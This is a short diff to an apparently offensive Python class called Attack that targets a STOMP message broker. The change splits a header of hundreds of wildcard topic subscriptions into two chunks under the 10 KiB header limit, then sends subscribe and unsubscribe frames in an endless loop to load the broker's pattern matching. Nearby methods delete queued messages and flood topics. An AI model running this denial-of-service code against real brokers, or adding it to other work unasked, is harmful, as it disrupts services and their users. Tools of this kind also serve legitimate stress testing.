@@ -137,11 +137,14 @@ class Attack:
             self.asks("/destinations/queue/deleted/messages/delete", "POST", {"selector": f"NOT ({self.selector})"})
 
     def patterns(self) -> None:
-        names = ",".join(f"/topic/{'*.' * (number % 7)}p{number}.>" for number in range(900))
+        # A header line has 10 KiB at most.
+        names = [",".join(f"/topic/{'*.' * (n % 7)}p{n}.>" for n in range(first, first + 450)) for first in (0, 450)]
+        frames: list[Frame] = [("SUBSCRIBE", [("id", f"{n}"), ("destination", each)]) for n, each in enumerate(names)]
+        frames += [("UNSUBSCRIBE", [("id", f"{n}")]) for n in range(len(names))]
         with Said(self.stomp) as said:
             said.say([self.send(f"/topic/a.b.c.{number}") for number in range(500)])
             while not self.is_over:
-                said.say([("SUBSCRIBE", [("id", "0"), ("destination", names)]), ("UNSUBSCRIBE", [("id", "0")])])
+                said.say(frames)
                 said.wait()
 
     def floods(self) -> None:
